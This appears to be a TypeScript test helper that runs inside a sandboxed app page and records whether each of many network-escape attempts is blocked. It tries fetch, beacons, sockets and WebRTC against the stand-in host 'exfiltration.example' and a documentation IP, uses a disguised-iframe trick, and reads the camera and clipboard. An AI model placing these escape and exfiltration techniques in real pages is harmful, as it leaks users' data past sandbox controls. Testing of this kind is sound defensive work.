/**
 * What a hostile page would try in order to reach a network. Runs inside the page (it is handed to Playwright's
 * `evaluate`, so it may use nothing from outside of itself) and says how each try ended.
 */
export async function tryEverything(): Promise<Record<string, string>> {
  const ended: Record<string, string> = {};
  const address = "203.0.113.7";
  const host = "exfiltration.example";
  const wait = (ms: number): Promise<void> => new Promise((resolve) => setTimeout(resolve, ms));
  const attempt = async (name: string, run: () => Promise<string> | string): Promise<void> => {
    try {
      ended[name] = await Promise.race([run(), wait(3_000).then(() => "silence")]);
    } catch (error) {
      ended[name] = `refused: ${error instanceof Error ? error.name : "error"}`;
    }
  };
  const element = (tag: string, attributes: Record<string, string>): Promise<string> =>
    new Promise((resolve) => {
      const made = document.createElement(tag);
      made.addEventListener("load", () => {
        resolve("LOADED");
      });
      made.addEventListener("error", () => {
        resolve("refused: error event");
      });
      for (const [key, value] of Object.entries(attributes)) made.setAttribute(key, value);
      document.body.append(made);
    });
  const socket = (made: WebSocket | EventSource): Promise<string> =>
    new Promise((resolve) => {
      made.onopen = () => {
        resolve("OPENED");
      };
      made.onerror = () => {
        resolve("refused: error event");
      };
    });

  for (const target of [`http://${host}`, `http://${address}`, `https://${address}`]) {
    await attempt(`fetch ${target}`, async () => `ANSWERED ${(await fetch(`${target}/a`)).status.toString()}`);
    await attempt(`image ${target}`, () => element("img", { src: `${target}/a.png` }));
  }
  await attempt("script", () => element("script", { src: `http://${address}/a.js` }).catch(() => "refused"));
  await attempt("style sheet", () => element("link", { rel: "stylesheet", href: `http://${address}/a.css` }));
  await attempt("frame", () => element("iframe", { src: `http://${address}/frame` }));
  await attempt("object", () => element("object", { data: `http://${address}/object` }));
  await attempt("media", () => element("video", { src: `http://${address}/video.mp4` }));
  for (const rel of ["dns-prefetch", "preconnect", "prefetch", "preload", "prerender", "modulepreload"]) {
    await attempt(`link ${rel}`, async () => {
      const link = document.createElement("link");
      link.rel = rel;
      link.href = `http://${rel}.${host}/`;
      if (rel === "preload") link.as = "image";
      document.head.append(link);
      await wait(200);
      return "silence";
    });
  }
  await attempt("beacon", () => (navigator.sendBeacon(`http://${address}/b`, "x") ? "queued" : "refused"));
  await attempt("XMLHttpRequest", () => {
    const request = new XMLHttpRequest();
    request.open("GET", `http://${address}/x`, false);
    request.send();
    return "SENT";
  });
  await attempt("WebSocket", () => socket(new WebSocket(`ws://${address}/w`)));
  await attempt("EventSource", () => socket(new EventSource(`http://${address}/e`)));
  await attempt("WebTransport", async () => {
    await new WebTransport(`https://${address}/t`).ready;
    return "OPENED";
  });
  const gather = async (scope: typeof globalThis): Promise<string> => {
    const connection = new scope.RTCPeerConnection({ iceServers: [{ urls: `stun:${address}:3478` }] });
    connection.createDataChannel("x");
    const candidates: string[] = [];
    connection.onicecandidate = (event) => candidates.push(event.candidate?.candidate ?? "");
    await connection.setLocalDescription(await connection.createOffer());
    await wait(1_500);
    return candidates.filter((candidate) => candidate !== "").length > 0 ? "CANDIDATES" : "no candidate";
  };
  await attempt("WebRTC", () => gather(globalThis));
  await attempt("WebRTC of an empty frame", () => {
    const frame = document.createElement("iframe");
    document.body.append(frame);
    const inner = frame.contentWindow;
    return inner === null ? "refused: no window" : gather(inner.window);
  });
  await attempt("WebRTC of a frame under another name", () => {
    let asked = 0;
    const names = { toString: () => ((asked += 1) === 1 ? "div" : "IFRAME") };
    const make = [
      () => document.createElement(names as unknown as string),
      () => document.createElementNS("http://www.w3.org/1999/xhtml", "iframe"),
      () => document.implementation.createHTMLDocument().createElement("iframe"),
    ];
    for (const made of make) {
      try {
        document.body.append(made());
      } catch {
        // The next may work.
      }
    }
    const inner = frames[0];
    return inner === undefined ? "refused: no frame" : gather(inner.window);
  });
  await attempt("spell check", async () => {
    const field = document.createElement("textarea");
    field.spellcheck = true;
    field.lang = "de";
    field.value = "Rechtschreibprufung";
    document.body.append(field);
    field.focus();
    await wait(200);
    return "silence";
  });
  await attempt("form", async () => {
    const form = document.createElement("form");
    form.action = `http://${address}/form`;
    document.body.append(form);
    form.submit();
    await wait(200);
    return "silence";
  });
  await attempt("window", () => (window.open(`http://${address}/`) === null ? "refused" : "OPENED"));
  await attempt("navigation", async () => {
    location.href = `http://${address}/`;
    await wait(500);
    return location.href === "app://main/" ? "refused" : "LEFT";
  });
  await attempt("download", async () => {
    const link = document.createElement("a");
    link.href = URL.createObjectURL(new Blob(["x"]));
    link.download = "x.txt";
    link.click();
    await wait(300);
    return "silence";
  });
  await attempt(
    "geolocation",
    () =>
      new Promise<string>((resolve) => {
        navigator.geolocation.getCurrentPosition(
          () => {
            resolve("GRANTED");
          },
          () => {
            resolve("refused");
          },
        );
      }),
  );
  await attempt("camera", async () => `GRANTED ${(await navigator.mediaDevices.getUserMedia({ video: true })).id}`);
  await attempt("clipboard", async () => `READ ${(await navigator.clipboard.readText()).slice(0, 0)}`);
  return ended;
}
